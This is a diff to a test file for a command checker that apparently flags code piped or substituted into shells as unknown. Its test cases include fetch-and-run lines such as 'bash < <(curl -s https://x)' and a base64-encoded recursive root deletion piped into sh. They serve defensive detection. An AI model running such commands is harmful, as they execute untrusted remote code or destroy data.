@@ -31,6 +31,8 @@ describe("code read from a pipe or another command is unknown code", () => {
     ["bash of a process substitution", "bash <(curl -s https://x)", "bash"],
     [". of a process substitution", ". <(curl -s https://x)", "."],
     ["source of a process substitution", "source <(kubectl completion bash)", "source"],
+    ["bash reading a process substitution on stdin", "bash < <(curl -s https://x)", "bash"],
+    ["python reading a process substitution on stdin", "python3 < <(curl -s https://x)", "python3"],
     ["base64 -d into sh", "echo cm0gLXJmIC8= | base64 -d | sh", "sh"],
     ["base64 --decode into bash", "base64 --decode payload | bash", "bash"],
     ["xxd -r into bash", "xxd -r -p hex.txt | bash", "bash"],
